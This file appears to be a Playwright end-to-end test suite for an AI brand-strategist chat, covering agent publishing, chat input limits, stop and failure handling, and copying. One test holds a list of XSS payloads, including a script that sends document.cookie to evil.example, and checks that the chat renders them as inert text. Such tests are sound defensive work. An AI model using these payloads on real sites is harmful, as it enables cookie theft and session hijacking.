import type { Page } from '@playwright/test';
import { refusals } from '@signet/contract';
import { inAHouseOfTheirOwn } from './own-house.ts';
import { asAdministrator, join } from './people.ts';
import { answerUpTo, expectBrand, finishQuiz } from './quiz.ts';
import { button } from './results.ts';
import { expect, test } from './test.ts';

inAHouseOfTheirOwn('chat');

const said = (page: Page, words: string) => expect(page.getByText(words, { exact: true })).toBeVisible();
const panel = (page: Page) => page.getByRole('region', { name: 'Chat with Signet' });
const field = (page: Page) => page.getByLabel('Your question');
const AT_WORK = { timeout: 90_000 };
const HOSTILE = [
  '<script>stolen = 1; fetch("https://evil.example/?d=" + document.cookie)</script>',
  '<img src="https://evil.example/a.png" onerror="stolen = 1"><svg onload="stolen = 1"><style>@import "//evil.example"',
  '![brand](https://evil.example/b.png?d=secret) [press](javascript:stolen=1) [here](https://evil.example)',
  '> <iframe src="https://evil.example"></iframe>',
  '- “<form action=https://evil.example>”',
  'The end of it.',
].join('\n\n');

/** Makes, prepares, tries and publishes the agent, unless an earlier test has. */
const publish = async (page: Page): Promise<void> => {
  await page.goto('/admin/agent');
  await expect(button(page, 'Create Agent').or(button(page, 'Save Configuration'))).toBeVisible();
  if (await button(page, 'Create Agent').isVisible()) {
    await button(page, 'Create Agent').click();
    await said(page, 'model is required');
    await said(page, 'instruction must be at least 40 characters');
    await page.getByRole('button', { name: 'Model' }).click();
    await page.getByRole('option', { name: /Offline strategist/ }).click();
    await page.getByLabel('Instruction').fill('Answer founders about their brand, briefly and in plain words.');
    await button(page, 'Create Agent').click();
    await said(page, 'Not Prepared (Not Published)');
    await expect(button(page, 'Test Agent')).toBeDisabled();
    await expect(button(page, 'Publish Agent')).toBeDisabled();
    await button(page, 'Prepare Agent').click();
    await expect(page.getByText('Prepared (Not Published)', { exact: true })).toBeVisible(AT_WORK);
    await expect(page.getByRole('heading', { name: 'How the draft answered' })).toBeVisible();
    await button(page, 'Publish Agent').click();
    await page.getByRole('alertdialog').getByRole('button', { name: 'Publish' }).click();
  }
  await expect(page.getByText('Prepared (Published)', { exact: true })).toBeVisible(AT_WORK);
};

/** As an administrator: publishes the agent, switches the chat on and gives a founder a tier that has it. */
const openTo = async (admin: Page, email: string): Promise<void> => {
  await asAdministrator(admin);
  await publish(admin);
  await admin.goto('/admin/settings');
  await admin.getByRole('button', { name: /Chat strategist/ }).click();
  await admin.getByRole('option', { name: 'On' }).click();
  await admin.goto('/admin/users');
  await admin.getByRole('searchbox').fill(email);
  await admin.getByLabel(`Subscription of ${email}`).selectOption('Studio');
  await button(admin, 'SAVE').click();
  await said(admin, 'User(s) were successfully updated.');
};

test('staff make an agent, try its draft by keyboard, and publish it', async ({ page }) => {
  test.slow();
  await asAdministrator(page);
  await publish(page);
  await button(page, 'Test Agent').press('Enter');
  await expect(panel(page)).toBeVisible();
  await expect(panel(page).getByText('Offline: computes and quotes')).toBeVisible();
  await expect(field(page)).toBeFocused();
  await page.keyboard.type('May I put white');
  await page.keyboard.press('Shift+Enter');
  await page.keyboard.type('on our coral?');
  await page.keyboard.press('Enter');
  await expect(panel(page).getByText(/White .* on Coral/)).toBeVisible();
  await panel(page).getByRole('button', { name: 'Source 2' }).first().press('Enter');
  await expect(panel(page).getByText('Text has a contrast ratio of at least 4.5:1.')).toBeVisible();
  await expect(button(page, 'Test Agent')).toBeDisabled();

  await button(page, 'Close the chat').press('Enter');
  await expect(page.getByRole('alertdialog', { name: 'Copy this chat?' })).toBeVisible();
  await button(page, 'CLOSE').press('Enter');
  await expect(panel(page)).toHaveCount(0);
});

test('a founder asks, stops, sees what failed, and copies before closing; on a phone too', async ({
  page,
  elsewhere,
  trouble,
}) => {
  test.slow();
  trouble.expect(/promptStream|general\/session/);
  const admin = await (await elsewhere()).newPage();
  await page.context().grantPermissions(['clipboard-read', 'clipboard-write']);
  const { email } = await join(page);
  await openTo(admin, email);

  await page.goto('/team/userInfo');
  await button(page, 'CHAT WITH SIGNET').click();
  // spec administration §2.11, less where the screen is lower
  const box = () => panel(page).boundingBox();
  const high = Math.min(732, (page.viewportSize()?.height ?? 0) - 92);
  await expect.poll(async () => [(await box())?.width, (await box())?.height]).toEqual([302, high]);
  await expect(panel(page).getByText(/^AI invents stuff\. Verify all facts & stats\./)).toBeVisible();
  // spec administration §5
  await expect(field(page)).toBeEditable();
  await field(page).press('Enter');
  await said(page, 'Prompt is required');
  await field(page).fill('a'.repeat(3700));
  await said(page, '300 characters left');
  await field(page).fill('a'.repeat(4001));
  await said(page, '1 character too many');
  await expect(button(page, 'Send')).toBeDisabled();
  await field(page).fill('');
  await panel(page).getByRole('button', { name: 'What are our colors?' }).click();
  await expect(panel(page).getByText(/I know no finished brand of yours yet/)).toBeVisible();

  await page.route('**/promptStream', () => undefined);
  await field(page).fill('Wait for it');
  await field(page).press('Enter');
  await expect(panel(page).getByText('Looking it up…')).toBeVisible();
  await button(page, 'Stop').click();
  await said(page, 'Stopped.');
  await page.unroute('**/promptStream');
  await page.route('**/promptStream', (route) => route.fulfill({ status: 503, json: {} }));
  await field(page).fill('Fail');
  await field(page).press('Enter');
  await said(page, refusals.chatFailed.message);
  await page.unroute('**/promptStream');
  // whatever an answer holds is text: nothing in it runs, leads elsewhere or is fetched
  const asked: string[] = [];
  page.on('request', (request) => asked.push(request.url()));
  await page.route('**/promptStream', (route) =>
    route.fulfill({
      contentType: 'application/x-ndjson',
      body: [
        { type: 'text', text: HOSTILE },
        { type: 'end', turnId: 'a' },
      ]
        .map((one) => JSON.stringify(one))
        .join('\n'),
    }),
  );
  await field(page).fill('Go on');
  await field(page).press('Enter');
  await expect(panel(page).getByText(/The end of it/)).toBeVisible();
  await expect(panel(page).locator('ol > li').last().locator('a, img, script, iframe, svg, form, style')).toHaveCount(
    0,
  );
  expect(await page.evaluate(() => 'stolen' in globalThis)).toBe(false);
  expect(asked.filter((url) => url.includes('evil.example'))).toEqual([]);
  await page.unroute('**/promptStream');
  await page.route('**/general/session', (route) => route.fulfill({ status: 500, json: {} }));
  await button(page, 'New chat').click();
  await said(page, 'Failed to reset chat');
  // what failed stays until it is put away, over whatever lies under it
  await button(page, 'Dismiss').click();
  await page.unroute('**/general/session');
  // what could not begin is begun by the next question
  await field(page).fill('Wait for it');
  await field(page).press('Enter');
  await expect(panel(page).getByText(/I know no finished brand of yours yet/)).toBeVisible();

  await button(page, 'Hide the chat').click();
  await expect(button(page, 'CHAT WITH SIGNET')).toBeFocused();
  await page.setViewportSize({ width: 390, height: 844 });
  await button(page, 'Menu').click();
  await button(page, 'CHAT WITH SIGNET').click();
  await said(page, 'Wait for it');
  expect((await panel(page).boundingBox())?.width).toBe(390);
  await button(page, 'Close the chat').click();
  await button(page, 'COPY').click();
  await said(page, 'COPIED!');
  await said(page, 'Chat copied!');
  expect(await page.evaluate(() => navigator.clipboard.readText())).toContain('You: Wait for it');
  await button(page, 'CLOSE').click();
  await expect(panel(page)).toHaveCount(0);
});

test('beside the results the chat is offered, large too, with what can be used and what was said before', async ({
  page,
  elsewhere,
}) => {
  test.slow();
  await page.context().grantPermissions(['clipboard-read', 'clipboard-write']);
  const { email } = await join(page);
  await openTo(await (await elsewhere()).newPage(), email);
  await page.goto('/quiz/1');
  await answerUpTo(page, 5);
  await expectBrand(page);
  const card = page.getByRole('complementary', { name: 'Help with your brand' });
  await expect(card.getByText('The strategist knows your colors, your type and your words.')).toBeVisible();
  await finishQuiz(page);
  await card.getByRole('button', { name: 'Ask about your brand' }).click();
  await expect(panel(page)).toBeVisible();

  // spec administration §2.11: 302 px, or 100 % when it is larger; what it covers is out of reach then
  const wide = async () => (await panel(page).boundingBox())?.width;
  await button(page, 'Larger').click();
  await expect.poll(wide).toBe(page.viewportSize()?.width);
  expect(await page.locator('#content').getAttribute('inert')).not.toBeNull();
  await field(page).fill('What are our colors?');
  await field(page).press('Enter');
  const color = panel(page)
    .getByRole('button', { name: /^Use this: copy #/ })
    .first();
  await color.click();
  await said(page, 'Hex code copied to clipboard!');
  const clipboard = () => page.evaluate(() => navigator.clipboard.readText());
  expect(await color.getAttribute('aria-label')).toBe(`Use this: copy ${await clipboard()}`);
  await field(page).fill('Write three taglines in our voice');
  await field(page).press('Enter');
  const line = panel(page)
    .getByRole('listitem')
    .filter({ has: button(page, 'Use this') })
    .last();
  await line.getByRole('button', { name: 'Use this', exact: true }).click();
  await said(page, 'Copied.');
  await expect(line).toContainText(`“${await clipboard()}”`);
  await button(page, 'Smaller').click();
  await expect.poll(wide).toBe(302);

  // what was said before is read, gone on with and deleted
  await button(page, 'New chat').click();
  await expect(panel(page).getByText(/^Ask about your brand:/)).toBeVisible();
  await button(page, 'Earlier conversations').click();
  const earlier = panel(page).getByRole('list', { name: 'Earlier conversations' });
  await expect(earlier.getByRole('listitem')).toHaveCount(1);
  await earlier.getByRole('button', { name: /^What are our colors\?/ }).click();
  await expect(line.getByRole('button', { name: 'Use this', exact: true })).toBeVisible();
  await field(page).fill('And our fonts?');
  await field(page).press('Enter');
  await expect(panel(page).getByText('And our fonts?')).toBeVisible();
  await expect(button(page, 'Stop')).toHaveCount(0);
  await button(page, 'Earlier conversations').click();
  await earlier.getByRole('button', { name: 'Delete “What are our colors?”' }).click();
  await expect(panel(page).getByText('No conversations yet.')).toBeVisible();
});
